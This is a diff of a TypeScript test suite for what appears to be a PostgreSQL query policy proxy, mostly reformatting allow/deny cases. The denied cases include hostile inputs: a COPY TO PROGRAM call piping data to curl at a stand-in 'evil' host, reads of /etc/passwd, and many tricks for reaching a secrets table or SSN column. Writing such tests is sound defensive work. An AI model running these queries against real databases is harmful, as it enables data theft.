@@ -37,13 +37,13 @@ const families: Record<string, Case[]> = {
     ['analyst', '\0', 'deny', 'invalid_input'],
   ],
   // Unparsable text fails closed.
-  'unparsable': [
+  unparsable: [
     ['analyst', 'SELEC 1', 'deny', 'parse_error'],
     ['analyst', 'SELECT (', 'deny', 'parse_error'],
     ['analyst', "SELECT 'unterminated", 'deny', 'parse_error'],
   ],
   // Empty queries are EmptyQueryResponse.
-  'empty': [
+  empty: [
     ['analyst', '', 'allow', 'builtin.empty'],
     ['analyst', '   \n\t', 'allow', 'builtin.empty'],
     ['analyst', ';', 'allow', 'builtin.empty'],
@@ -52,11 +52,31 @@ const families: Record<string, Case[]> = {
   // Data-modifying CTEs run even when the outer query only reads.
   'data-modifying CTEs': [
     ['analyst', 'WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', 'deny', 'write_in_read_only'],
-    ['analyst', 'WITH i AS (INSERT INTO orders(id) VALUES (1) RETURNING id) SELECT id FROM i', 'deny', 'write_in_read_only'],
+    [
+      'analyst',
+      'WITH i AS (INSERT INTO orders(id) VALUES (1) RETURNING id) SELECT id FROM i',
+      'deny',
+      'write_in_read_only',
+    ],
     ['analyst', "WITH u AS (UPDATE orders SET status = 'x' RETURNING id) SELECT 1", 'deny', 'write_in_read_only'],
-    ['analyst', 'SELECT * FROM (WITH d AS (DELETE FROM victim RETURNING x) SELECT x FROM d) s', 'deny', 'write_in_read_only'],
-    ['analyst', 'SELECT (WITH d AS (DELETE FROM victim RETURNING x) SELECT x FROM d LIMIT 1)', 'deny', 'write_in_read_only'],
-    ['writer', 'WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING id) SELECT id FROM d', 'allow', 'roles.writer.write.relations'],
+    [
+      'analyst',
+      'SELECT * FROM (WITH d AS (DELETE FROM victim RETURNING x) SELECT x FROM d) s',
+      'deny',
+      'write_in_read_only',
+    ],
+    [
+      'analyst',
+      'SELECT (WITH d AS (DELETE FROM victim RETURNING x) SELECT x FROM d LIMIT 1)',
+      'deny',
+      'write_in_read_only',
+    ],
+    [
+      'writer',
+      'WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING id) SELECT id FROM d',
+      'allow',
+      'roles.writer.write.relations',
+    ],
     ['writer', 'WITH d AS (DELETE FROM victim RETURNING x) SELECT x FROM d', 'deny', 'relation_not_allowed'],
   ],
   // SELECT INTO creates a table.
@@ -76,7 +96,7 @@ const families: Record<string, Case[]> = {
     ['writer', 'SELECT id FROM victim FOR UPDATE', 'deny', 'write_in_read_only'],
   ],
   // EXPLAIN ANALYZE executes its statement.
-  'EXPLAIN': [
+  EXPLAIN: [
     ['analyst', 'EXPLAIN ANALYZE DELETE FROM orders', 'deny', 'write_in_read_only'],
     ['analyst', 'EXPLAIN DELETE FROM orders', 'deny', 'write_in_read_only'],
     ['analyst', 'EXPLAIN (ANALYZE, FORMAT JSON) SELECT id FROM orders', 'allow'],
@@ -88,7 +108,7 @@ const families: Record<string, Case[]> = {
     ['writer', 'EXPLAIN ANALYZE UPDATE orders SET status = status', 'allow'],
   ],
   // COPY only to the client.
-  'COPY': [
+  COPY: [
     ['analyst', "COPY orders TO PROGRAM 'curl evil'", 'deny', 'statement_kind_denied'],
     ['analyst', "COPY orders TO '/tmp/x'", 'deny', 'statement_kind_denied'],
     ['analyst', "COPY orders FROM '/etc/passwd'", 'deny', 'statement_kind_denied'],
@@ -107,8 +127,8 @@ const families: Record<string, Case[]> = {
   ],
   // Procedural code is opaque to the policy.
   'DO/CALL': [
-    ['analyst', "DO $$ BEGIN DELETE FROM victim; END $$", 'deny', 'statement_kind_denied'],
-    ['writer', "DO $$ BEGIN PERFORM 1; END $$", 'deny', 'statement_kind_denied'],
+    ['analyst', 'DO $$ BEGIN DELETE FROM victim; END $$', 'deny', 'statement_kind_denied'],
+    ['writer', 'DO $$ BEGIN PERFORM 1; END $$', 'deny', 'statement_kind_denied'],
     ['analyst', 'CALL p()', 'deny', 'statement_kind_denied'],
   ],
   // The transaction access mode cannot be flipped to READ WRITE.
@@ -177,7 +197,7 @@ const families: Record<string, Case[]> = {
     ['analyst', 'RESET standard_conforming_strings', 'deny', 'setting_pinned'],
   ],
   // Settings: harmless list, limits and the role's extras.
-  'settings': [
+  settings: [
     ['analyst', 'SET DateStyle = ISO, MDY', 'allow'],
     ['analyst', "SET TIME ZONE 'UTC'", 'allow'],
     ['analyst', 'SET extra_float_digits = 3', 'allow'],
@@ -186,7 +206,7 @@ const families: Record<string, Case[]> = {
     ['analyst', 'SET bytea_output = hex', 'allow'],
     ['analyst', "SET lc_messages = 'C'", 'allow'],
     ['analyst', 'RESET DateStyle', 'allow'],
-    ['analyst', 'SET work_mem = \'1GB\'', 'deny', 'setting_denied'],
+    ['analyst', "SET work_mem = '1GB'", 'deny', 'setting_denied'],
     ['fnallow', "SET work_mem = '64MB'", 'allow'],
     // application_name needs no settings entry: the session rewrites the value under the identity prefix.
     ['analyst', "SET application_name = 'x'", 'allow'],
@@ -305,13 +325,13 @@ const families: Record<string, Case[]> = {
     ['fnallow', "SELECT pg_relation_size('orders')", 'allow'],
     ['intro', "SELECT 'orders'::regclass", 'allow'],
     ['intro', "SELECT pg_relation_size('orders'), pg_get_viewdef('v_orders'::regclass)", 'allow'],
-    ['analyst', "SELECT pg_size_pretty(1024::bigint)", 'allow'],
+    ['analyst', 'SELECT pg_size_pretty(1024::bigint)', 'allow'],
     // format_type prints any type's name, table row types included: a name oracle like regtypeout.
-    ['analyst', "SELECT format_type(23, NULL)", 'deny', 'function_denied'],
-    ['intro', "SELECT format_type(23, NULL)", 'allow'],
+    ['analyst', 'SELECT format_type(23, NULL)', 'deny', 'function_denied'],
+    ['intro', 'SELECT format_type(23, NULL)', 'allow'],
   ],
   // current_setting reads only an allow list of settings.
-  'current_setting': [
+  current_setting: [
     ['analyst', "SELECT current_setting('data_directory')", 'deny', 'function_denied'],
     ['analyst', "SELECT current_setting('config_file')", 'deny', 'function_denied'],
     ['analyst', "SELECT current_setting('my.secret', true)", 'deny', 'function_denied'],
@@ -331,7 +351,12 @@ const families: Record<string, Case[]> = {
     ['analyst', 'SELECT id FROM orders UNION SELECT id FROM secrets', 'deny', 'relation_not_allowed'],
     ['analyst', 'SELECT id FROM orders EXCEPT SELECT id FROM secrets', 'deny', 'relation_not_allowed'],
     ['analyst', 'WITH s AS (SELECT * FROM secrets) SELECT 1', 'deny', 'relation_not_allowed'],
-    ['analyst', 'SELECT * FROM orders o, LATERAL (SELECT value FROM secrets WHERE id = o.id) s', 'deny', 'relation_not_allowed'],
+    [
+      'analyst',
+      'SELECT * FROM orders o, LATERAL (SELECT value FROM secrets WHERE id = o.id) s',
+      'deny',
+      'relation_not_allowed',
+    ],
     ['analyst', 'TABLE secrets', 'deny', 'relation_not_allowed'],
     ['analyst', 'SELECT * FROM ONLY secrets', 'deny', 'relation_not_allowed'],
     ['analyst', 'SELECT * FROM secrets TABLESAMPLE SYSTEM (10)', 'deny', 'relation_not_allowed'],
@@ -340,19 +365,48 @@ const families: Record<string, Case[]> = {
     ['analyst', 'SELECT id FROM orders ORDER BY (SELECT max(id) FROM secrets)', 'deny', 'relation_not_allowed'],
     ['analyst', 'SELECT id FROM orders LIMIT (SELECT count(*) FROM secrets)', 'deny', 'relation_not_allowed'],
     ['analyst', 'VALUES ((SELECT value FROM secrets))', 'deny', 'relation_not_allowed'],
-    ['analyst', 'SELECT count(*) FILTER (WHERE EXISTS (SELECT 1 FROM secrets)) FROM orders', 'deny', 'relation_not_allowed'],
+    [
+      'analyst',
+      'SELECT count(*) FILTER (WHERE EXISTS (SELECT 1 FROM secrets)) FROM orders',
+      'deny',
+      'relation_not_allowed',
+    ],
     // A name outside the role's relations is refused alike whether it exists or not (temporary relations too).
     ['analyst', 'SELECT * FROM nosuchtable', 'deny', 'relation_not_allowed'],
     ['analyst', 'SELECT * FROM pg_temp.x', 'deny', 'relation_not_allowed'],
   ],
   // CTE names are scoped: a CTE only hides a relation where it is visible.
   'CTE shadowing': [
-    ['analyst', 'SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s', 'deny', 'relation_not_allowed'],
+    [
+      'analyst',
+      'SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s',
+      'deny',
+      'relation_not_allowed',
+    ],
     ['analyst', 'WITH secrets AS (SELECT 1 AS x) SELECT * FROM secrets', 'allow'],
-    ['analyst', 'WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a', 'deny', 'relation_not_allowed'],
-    ['analyst', 'WITH RECURSIVE secrets(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM secrets WHERE n < 3) SELECT n FROM secrets', 'allow'],
-    ['analyst', '(WITH secrets AS (SELECT 1) SELECT 1) UNION ALL SELECT 1 FROM secrets', 'deny', 'relation_not_allowed'],
-    ['analyst', 'SELECT (WITH secrets AS (SELECT 1 AS v) SELECT v FROM secrets), (SELECT value FROM secrets LIMIT 1)', 'deny', 'relation_not_allowed'],
+    [
+      'analyst',
+      'WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a',
+      'deny',
+      'relation_not_allowed',
+    ],
+    [
+      'analyst',
+      'WITH RECURSIVE secrets(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM secrets WHERE n < 3) SELECT n FROM secrets',
+      'allow',
+    ],
+    [
+      'analyst',
+      '(WITH secrets AS (SELECT 1) SELECT 1) UNION ALL SELECT 1 FROM secrets',
+      'deny',
+      'relation_not_allowed',
+    ],
+    [
+      'analyst',
+      'SELECT (WITH secrets AS (SELECT 1 AS v) SELECT v FROM secrets), (SELECT value FROM secrets LIMIT 1)',
+      'deny',
+      'relation_not_allowed',
+    ],
     ['analyst', 'WITH x AS (SELECT 1) SELECT * FROM public.x', 'deny', 'relation_not_allowed'],
     ['analyst', 'WITH orders AS (SELECT 1 AS id) SELECT * FROM public.orders', 'allow'],
   ],
@@ -375,7 +429,7 @@ const families: Record<string, Case[]> = {
     ['analyst', 'SELECT * FROM public.pg_class', 'deny', 'relation_not_allowed'],
   ],
   // System catalogs need catalog: introspection; some never.
-  'catalogs': [
+  catalogs: [
     ['analyst', 'SELECT relname FROM pg_catalog.pg_class', 'deny', 'catalog_denied'],
     ['analyst', 'SELECT table_name FROM information_schema.tables', 'deny', 'catalog_denied'],
     ['analyst', 'SELECT * FROM pg_settings', 'deny', 'catalog_denied'],
@@ -402,7 +456,7 @@ const families: Record<string, Case[]> = {
     ['analyst', "SELECT id FROM customers WHERE ssn = '123-45-6789'", 'deny', 'column_denied'],
     ['analyst', 'SELECT id FROM customers ORDER BY ssn', 'deny', 'column_denied'],
     ['analyst', 'SELECT count(*) FROM customers GROUP BY ssn', 'deny', 'column_denied'],
-    ['analyst', 'SELECT count(*) FROM customers HAVING max(ssn) > \'5\'', 'deny', 'column_denied'],
+    ['analyst', "SELECT count(*) FROM customers HAVING max(ssn) > '5'", 'deny', 'column_denied'],
     ['analyst', 'SELECT lower(ssn) FROM customers', 'deny', 'column_denied'],
     ['analyst', 'SELECT length(c.ssn) FROM customers c', 'deny', 'column_denied'],
     ['analyst', 'SELECT * FROM customers', 'deny', 'column_denied'],
@@ -420,12 +474,17 @@ const families: Record<string, Case[]> = {
     ['analyst', 'SELECT x FROM (SELECT ssn AS x FROM customers) s', 'deny', 'column_denied'],
     ['analyst', 'SELECT * FROM (SELECT * FROM customers) s', 'deny', 'column_denied'],
     ['analyst', 'WITH c AS (SELECT ssn FROM customers) SELECT 1', 'deny', 'column_denied'],
-    ['analyst', 'SELECT o.id FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.ssn = \'x\')', 'deny', 'column_denied'],
+    [
+      'analyst',
+      "SELECT o.id FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.ssn = 'x')",
+      'deny',
+      'column_denied',
+    ],
     ['analyst', 'SELECT (SELECT ssn) FROM customers', 'deny', 'column_denied'],
-    ['analyst', 'SELECT id FROM customers c JOIN (VALUES (\'x\')) v(ssn) USING (ssn)', 'deny', 'column_denied'],
-    ['analyst', 'SELECT id FROM customers NATURAL JOIN (SELECT \'x\' AS ssn) v', 'deny', 'column_denied'],
+    ['analyst', "SELECT id FROM customers c JOIN (VALUES ('x')) v(ssn) USING (ssn)", 'deny', 'column_denied'],
+    ['analyst', "SELECT id FROM customers NATURAL JOIN (SELECT 'x' AS ssn) v", 'deny', 'column_denied'],
     ['analyst', 'SELECT 1 FROM customers a JOIN customers b ON a.ssn = b.ssn', 'deny', 'column_denied'],
-    ['analyst', 'SELECT id FROM customers WHERE (ssn, id) = (\'x\', 1)', 'deny', 'column_denied'],
+    ['analyst', "SELECT id FROM customers WHERE (ssn, id) = ('x', 1)", 'deny', 'column_denied'],
     ['analyst', 'SELECT max(ssn) OVER () FROM customers', 'deny', 'column_denied'],
     ['analyst', 'SELECT id FROM customers WINDOW w AS (PARTITION BY ssn)', 'deny', 'column_denied'],
     ['analyst', 'SELECT DISTINCT ON (ssn) id FROM customers', 'deny', 'column_denied'],
@@ -439,7 +498,7 @@ const families: Record<string, Case[]> = {
     ['analyst', 'SELECT j.d FROM (customers c JOIN orders o ON true) AS j(a, b, c, d)', 'deny', 'column_denied'],
     ['analyst', 'SELECT 1 FROM customers x(a, b, c, d) JOIN (SELECT 1 AS d) v USING (d)', 'deny', 'column_denied'],
     ['analyst', 'SELECT id, name, email, created_at FROM customers', 'allow'],
-    ['analyst', 'SELECT c.id, c.name FROM customers c WHERE c.email LIKE \'%@x\'', 'allow'],
+    ['analyst', "SELECT c.id, c.name FROM customers c WHERE c.email LIKE '%@x'", 'allow'],
     ['analyst', 'SELECT name FROM customers JOIN orders ON orders.customer_id = customers.id', 'allow'],
     ['analyst', 'SELECT * FROM orders', 'allow'],
     ['analyst', 'SELECT o.* FROM orders o JOIN customers c ON c.id = o.customer_id', 'allow'],
@@ -449,7 +508,7 @@ const families: Record<string, Case[]> = {
     ['writer', 'UPDATE orders SET status = (SELECT ssn FROM customers LIMIT 1)', 'deny', 'column_denied'],
   ],
   // Operators resolve to functions; user-defined ones are denied.
-  'operators': [
+  operators: [
     ['analyst', 'SELECT 1 OPERATOR(public.===) 1', 'deny', 'operator_denied'],
     ['analyst', 'SELECT 1 === 1', 'deny', 'operator_denied'],
     ['analyst', "SELECT 'a' @@@ 'b'", 'deny', 'operator_denied'],
@@ -480,7 +539,12 @@ const families: Record<string, Case[]> = {
     ['analyst', 'INSERT INTO orders(id) VALUES (1)', 'deny', 'write_in_read_only'],
     ['analyst', "UPDATE orders SET status = 'x'", 'deny', 'write_in_read_only'],
     ['analyst', 'DELETE FROM orders', 'deny', 'write_in_read_only'],
-    ['analyst', 'MERGE INTO orders o USING order_items i ON o.id = i.order_id WHEN MATCHED THEN DELETE', 'deny', 'write_in_read_only'],
+    [
+      'analyst',
+      'MERGE INTO orders o USING order_items i ON o.id = i.order_id WHEN MATCHED THEN DELETE',
+      'deny',
+      'write_in_read_only',
+    ],
     ['analyst', 'TRUNCATE orders', 'deny', 'write_in_read_only'],
     ['analyst', 'DROP TABLE orders', 'deny', 'write_in_read_only'],
     ['analyst', 'CREATE TABLE x (a int)', 'deny', 'write_in_read_only'],
@@ -494,35 +558,48 @@ const families: Record<string, Case[]> = {
     ['analyst', 'ANALYZE orders', 'deny', 'write_in_read_only'],
     ['analyst', 'CLUSTER orders', 'deny', 'write_in_read_only'],
     ['analyst', 'REINDEX TABLE orders', 'deny', 'write_in_read_only'],
-    ['analyst', 'ALTER SYSTEM SET work_mem = \'1GB\'', 'deny', 'write_in_read_only'],
+    ['analyst', "ALTER SYSTEM SET work_mem = '1GB'", 'deny', 'write_in_read_only'],
     ['analyst', "LOAD 'evil'", 'deny', 'statement_kind_denied'],
     ['analyst', 'CHECKPOINT', 'deny', 'statement_kind_denied'],
     ['analyst', 'REFRESH MATERIALIZED VIEW mv', 'deny', 'write_in_read_only'],
     ['analyst', 'CREATE EXTENSION dblink', 'deny', 'write_in_read_only'],
     ['analyst', "COMMENT ON TABLE orders IS 'x'", 'deny', 'write_in_read_only'],
-    ['analyst', 'SECURITY LABEL ON TABLE orders IS \'x\'', 'deny', 'write_in_read_only'],
+    ['analyst', "SECURITY LABEL ON TABLE orders IS 'x'", 'deny', 'write_in_read_only'],
     ['writer', 'DROP TABLE orders', 'deny', 'ddl_denied'],
     ['writer', 'LOCK orders', 'deny', 'statement_kind_denied'],
     ['writer', 'VACUUM orders', 'deny', 'statement_kind_denied'],
   ],
   // Read-write roles: their kinds on their relations, read rules for everything read.
-  'writes': [
-    ['writer', 'INSERT INTO orders(id, status) VALUES (1, \'new\')', 'allow', 'roles.writer.write.relations'],
-    ['writer', 'UPDATE orders SET status = \'x\' WHERE id = 1', 'allow'],
+  writes: [
+    ['writer', "INSERT INTO orders(id, status) VALUES (1, 'new')", 'allow', 'roles.writer.write.relations'],
+    ['writer', "UPDATE orders SET status = 'x' WHERE id = 1", 'allow'],
     ['writer', 'DELETE FROM orders WHERE id = 1 RETURNING id', 'allow'],
     ['writer', 'INSERT INTO orders SELECT * FROM orders', 'allow'],
     ['writer', 'INSERT INTO victim VALUES (1)', 'deny', 'relation_not_allowed'],
-    ['writer', 'UPDATE customers SET name = \'x\'', 'deny', 'relation_not_allowed'],
+    ['writer', "UPDATE customers SET name = 'x'", 'deny', 'relation_not_allowed'],
     ['writer', 'TRUNCATE orders', 'deny', 'write_kind_denied'],
     ['writer', 'INSERT INTO orders SELECT * FROM secrets', 'deny', 'relation_not_allowed'],
     ['writer', 'UPDATE orders SET total = s.value::numeric FROM secrets s', 'deny', 'relation_not_allowed'],
     ['writer', 'DELETE FROM orders USING secrets WHERE secrets.id = orders.id', 'deny', 'relation_not_allowed'],
     ['writer', 'INSERT INTO orders(id) VALUES (1) ON CONFLICT (id) DO UPDATE SET status = excluded.status', 'allow'],
     ['writer', 'INSERT INTO orders(id) VALUES (1) RETURNING pg_sleep(1)', 'deny', 'function_denied'],
-    ['writer', 'MERGE INTO orders o USING order_items i ON o.id = i.order_id WHEN MATCHED THEN UPDATE SET total = i.price WHEN NOT MATCHED THEN INSERT (id) VALUES (i.order_id)', 'allow'],
-    ['writer', 'MERGE INTO orders o USING secrets s ON o.id = s.id WHEN MATCHED THEN DELETE', 'deny', 'relation_not_allowed'],
-    ['writer', "UPDATE pgbench_accounts SET abalance = abalance + 5 WHERE aid = 1", 'allow'],
-    ['writer', "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 1, 1, 5, CURRENT_TIMESTAMP)", 'allow'],
+    [
+      'writer',
+      'MERGE INTO orders o USING order_items i ON o.id = i.order_id WHEN MATCHED THEN UPDATE SET total = i.price WHEN NOT MATCHED THEN INSERT (id) VALUES (i.order_id)',
+      'allow',
+    ],
+    [
+      'writer',
+      'MERGE INTO orders o USING secrets s ON o.id = s.id WHEN MATCHED THEN DELETE',
+      'deny',
+      'relation_not_allowed',
+    ],
+    ['writer', 'UPDATE pgbench_accounts SET abalance = abalance + 5 WHERE aid = 1', 'allow'],
+    [
+      'writer',
+      'INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 1, 1, 5, CURRENT_TIMESTAMP)',
+      'allow',
+    ],
   ],
   // PREPARE bodies are checked; EXECUTE only of names that passed.
   'PREPARE / EXECUTE': [
@@ -536,7 +613,7 @@ const families: Record<string, Case[]> = {
     ['writer', 'PREPARE q AS INSERT INTO orders(id) VALUES ($1)', 'allow'],
   ],
   // Cursors: DECLARE checked, no FOR UPDATE; FETCH only declared names.
-  'cursors': [
+  cursors: [
     ['analyst', 'DECLARE c CURSOR FOR SELECT id FROM orders FOR UPDATE', 'deny', 'write_in_read_only'],
     ['analyst', 'DECLARE c2 CURSOR WITH HOLD FOR SELECT id FROM orders', 'deny', 'hold_cursor_denied'],
     ['writer', 'DECLARE c2 CURSOR WITH HOLD FOR SELECT id FROM orders', 'allow'],
@@ -550,7 +627,7 @@ const families: Record<string, Case[]> = {
   ],
   // SHOW reads what current_setting may read: never the server's filesystem layout; without catalog: introspection,
   // only display, identity and limit settings and those the role may SET.
-  'SHOW': [
+  SHOW: [
     // SHOW follows current_setting's rule (policy/settings.ts judgeSettingRead): a setting the role may neither
     // SET nor read with current_setting is refused to a role without catalog: introspection.
     ['analyst', 'SHOW work_mem', 'deny', 'setting_denied'],
@@ -575,33 +652,89 @@ const families: Record<string, Case[]> = {
     ['analyst', 'RELEASE SAVEPOINT a', 'allow'],
     ['analyst', 'ROLLBACK TO SAVEPOINT a', 'allow'],
     ['analyst', 'COMMIT AND CHAIN', 'allow'],
-    ['analyst', `SELECT o.status, sum(i.qty * i.price) AS revenue, avg(i.price), count(DISTINCT o.customer_id)
+    [
+      'analyst',
+      `SELECT o.status, sum(i.qty * i.price) AS revenue, avg(i.price), count(DISTINCT o.customer_id)
       FROM orders o JOIN order_items i ON i.order_id = o.id JOIN customers c ON c.id = o.customer_id
       WHERE o.created_at >= date '1994-01-01' AND o.created_at < date '1994-01-01' + interval '1' year
-      GROUP BY o.status HAVING sum(i.qty) > 300 ORDER BY revenue DESC, o.status LIMIT 20`, 'allow'],
-    ['analyst', `SELECT id, total, rank() OVER w, lag(total) OVER (PARTITION BY customer_id ORDER BY created_at ROWS BETWEEN 1 PRECEDING AND CURRENT ROW)
-      FROM orders WINDOW w AS (PARTITION BY status ORDER BY total DESC)`, 'allow'],
-    ['analyst', 'SELECT status, customer_id, sum(total) FROM orders GROUP BY GROUPING SETS ((status), (customer_id), ())', 'allow'],
+      GROUP BY o.status HAVING sum(i.qty) > 300 ORDER BY revenue DESC, o.status LIMIT 20`,
+      'allow',
+    ],
+    [
+      'analyst',
+      `SELECT id, total, rank() OVER w, lag(total) OVER (PARTITION BY customer_id ORDER BY created_at ROWS BETWEEN 1 PRECEDING AND CURRENT ROW)
+      FROM orders WINDOW w AS (PARTITION BY status ORDER BY total DESC)`,
+      'allow',
+    ],
+    [
+      'analyst',
+      'SELECT status, customer_id, sum(total) FROM orders GROUP BY GROUPING SETS ((status), (customer_id), ())',
+      'allow',
+    ],
     ['analyst', 'SELECT status, sum(total) FROM orders GROUP BY ROLLUP (status)', 'allow'],
-    ['analyst', 'SELECT c.name, x.total FROM customers c CROSS JOIN LATERAL (SELECT total FROM orders o WHERE o.customer_id = c.id ORDER BY total DESC LIMIT 3) x', 'allow'],
-    ['analyst', `SELECT info->>'a', info #> '{b,c}', info @> '{"x":1}', info ? 'k', tags[1:2], info['a'] FROM sales."Orders" WHERE info @? '$.a'`, 'allow'],
-    ['analyst', 'SELECT id FROM orders WHERE status ILIKE \'%x%\' OR status SIMILAR TO \'a%\' OR status ~* \'^b\' OR status ^@ \'c\'', 'allow'],
-    ['analyst', "SELECT extract(year FROM created_at), date_trunc('month', created_at), substring(status from 1 for 2), position('a' in status), overlay(status placing 'x' from 1), trim(both ' ' from status) FROM orders", 'allow'],
-    ['analyst', 'SELECT coalesce(total, 0), nullif(status, \'\'), greatest(1, 2), least(1, 2), CASE WHEN total > 1 THEN 1 ELSE 0 END FROM orders', 'allow'],
-    ['analyst', 'SELECT current_user, current_date, current_timestamp, session_user, current_schema, now(), version()', 'allow'],
-    ['analyst', 'SELECT DISTINCT ON (customer_id) customer_id, total FROM orders ORDER BY customer_id, total DESC', 'allow'],
+    [
+      'analyst',
+      'SELECT c.name, x.total FROM customers c CROSS JOIN LATERAL (SELECT total FROM orders o WHERE o.customer_id = c.id ORDER BY total DESC LIMIT 3) x',
+      'allow',
+    ],
+    [
+      'analyst',
+      `SELECT info->>'a', info #> '{b,c}', info @> '{"x":1}', info ? 'k', tags[1:2], info['a'] FROM sales."Orders" WHERE info @? '$.a'`,
+      'allow',
+    ],
+    [
+      'analyst',
+      "SELECT id FROM orders WHERE status ILIKE '%x%' OR status SIMILAR TO 'a%' OR status ~* '^b' OR status ^@ 'c'",
+      'allow',
+    ],
+    [
+      'analyst',
+      "SELECT extract(year FROM created_at), date_trunc('month', created_at), substring(status from 1 for 2), position('a' in status), overlay(status placing 'x' from 1), trim(both ' ' from status) FROM orders",
+      'allow',
+    ],
+    [
+      'analyst',
+      "SELECT coalesce(total, 0), nullif(status, ''), greatest(1, 2), least(1, 2), CASE WHEN total > 1 THEN 1 ELSE 0 END FROM orders",
+      'allow',
+    ],
+    [
+      'analyst',
+      'SELECT current_user, current_date, current_timestamp, session_user, current_schema, now(), version()',
+      'allow',
+    ],
+    [
+      'analyst',
+      'SELECT DISTINCT ON (customer_id) customer_id, total FROM orders ORDER BY customer_id, total DESC',
+      'allow',
+    ],
     ['analyst', 'SELECT * FROM generate_series(1, 10) g WHERE g % 2 = 0', 'allow'],
     ['analyst', 'SELECT * FROM unnest(ARRAY[1,2]) WITH ORDINALITY AS t(v, n)', 'allow'],
     ['analyst', 'SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) FROM orders', 'allow'],
-    ['analyst', 'SELECT count(*) FILTER (WHERE status = \'x\') FROM orders', 'allow'],
+    ['analyst', "SELECT count(*) FILTER (WHERE status = 'x') FROM orders", 'allow'],
     ['analyst', 'WITH t AS MATERIALIZED (SELECT id FROM orders) SELECT * FROM t', 'allow'],
-    ['analyst', 'WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT n FROM r', 'allow'],
+    [
+      'analyst',
+      'WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT n FROM r',
+      'allow',
+    ],
     ['analyst', 'SELECT id FROM orders INTERSECT SELECT order_id FROM order_items', 'allow'],
-    ['analyst', 'SELECT id FROM orders WHERE id IN (SELECT order_id FROM order_items) AND total > ALL (SELECT price FROM order_items)', 'allow'],
+    [
+      'analyst',
+      'SELECT id FROM orders WHERE id IN (SELECT order_id FROM order_items) AND total > ALL (SELECT price FROM order_items)',
+      'allow',
+    ],
     ['analyst', 'SELECT x IS DISTINCT FROM 1, x BETWEEN SYMMETRIC 1 AND 2 FROM (VALUES (1)) v(x)', 'allow'],
     ['analyst', "SELECT to_tsvector('english', status) @@ plainto_tsquery('english', 'x') FROM orders", 'allow'],
-    ['analyst', "SELECT id::text, total::numeric(10,2), '2024-01-01'::date, x'ff'::int, b'101', U&'\\0041' FROM orders", 'allow'],
-    ['analyst', "SELECT json_build_object('id', id), jsonb_agg(total), array_agg(status ORDER BY id) FROM orders", 'allow'],
+    [
+      'analyst',
+      "SELECT id::text, total::numeric(10,2), '2024-01-01'::date, x'ff'::int, b'101', U&'\\0041' FROM orders",
+      'allow',
+    ],
+    [
+      'analyst',
+      "SELECT json_build_object('id', id), jsonb_agg(total), array_agg(status ORDER BY id) FROM orders",
+      'allow',
+    ],
     ['analyst', 'SELECT row_to_json(o) FROM orders o', 'allow'],
     ['analyst', 'SELECT o FROM orders o', 'allow'],
     ['analyst', 'SELECT id, ctid, xmin FROM orders', 'allow'],
@@ -611,8 +744,12 @@ const families: Record<string, Case[]> = {
     ['analyst', 'TABLE orders', 'allow'],
     ['analyst', 'SELECT id FROM orders ORDER BY id FETCH FIRST 5 ROWS WITH TIES', 'allow'],
     ['analyst', 'SELECT id FROM orders OFFSET 10 LIMIT 5', 'allow'],
-    ['analyst', `SELECT n.nspname = ANY(current_schemas(true)), n.nspname, t.typname FROM orders o, (SELECT 1) t(typname), (SELECT 'x') n(nspname)`, 'allow'],
-    ['analyst', 'SELECT id FROM orders WHERE created_at AT TIME ZONE \'UTC\' > now() - interval \'1 day\'', 'allow'],
+    [
+      'analyst',
+      `SELECT n.nspname = ANY(current_schemas(true)), n.nspname, t.typname FROM orders o, (SELECT 1) t(typname), (SELECT 'x') n(nspname)`,
+      'allow',
+    ],
+    ['analyst', "SELECT id FROM orders WHERE created_at AT TIME ZONE 'UTC' > now() - interval '1 day'", 'allow'],
     ['analyst', 'SELECT xmlelement(name a, id) FROM orders', 'allow'],
     ['analyst', 'SELECT 1 FROM orders o1 JOIN orders o2 USING (id) AS j WHERE j.id = 1', 'allow'],
   ],
@@ -630,9 +767,9 @@ const families: Record<string, Case[]> = {
     ['shadow', "SET client_encoding = 'UTF8'", 'allow'],
     // A text the parser cannot read passes in shadow mode, unless it names one of those settings.
     ['shadow', 'SELECT FROM WHERE', 'allow'],
-    ["shadow", "SET client_encoding = 'SJIS'; SELECT FROM WHERE", 'deny', 'setting_pinned'],
-    ["shadow", "SET application_name = 'x'; SELECT FROM WHERE", 'deny', 'setting_pinned'],
-    ["shadow", "SET NAMES 'SJIS' SELECT", 'deny', 'setting_pinned'],
+    ['shadow', "SET client_encoding = 'SJIS'; SELECT FROM WHERE", 'deny', 'setting_pinned'],
+    ['shadow', "SET application_name = 'x'; SELECT FROM WHERE", 'deny', 'setting_pinned'],
+    ['shadow', "SET NAMES 'SJIS' SELECT", 'deny', 'setting_pinned'],
     ['shadow', 'SET work_mem = 1', 'allow'],
   ],
   // Protocol: a Parse message holds one statement (checked separately below).
@@ -723,12 +860,21 @@ describe('decision details', () => {
     expect(eff('DEALLOCATE PREPARE "get-acct"')).toEqual([{ type: 'deallocate', name: 'get-acct' }]);
     expect(eff('DEALLOCATE ALL')).toEqual([{ type: 'deallocate', name: null }]);
     expect(eff('RESET ALL')).toEqual([{ type: 'restamp' }]);
-    expect(eff('DISCARD ALL')).toEqual([{ type: 'restamp' }, { type: 'deallocate', name: null }, { type: 'close', name: null }]);
+    expect(eff('DISCARD ALL')).toEqual([
+      { type: 'restamp' },
+      { type: 'deallocate', name: null },
+      { type: 'close', name: null },
+    ]);
     expect(eff('EXPLAIN EXECUTE p')).toEqual([]);
   });
 
   it('statement summaries list relations, columns and functions', () => {
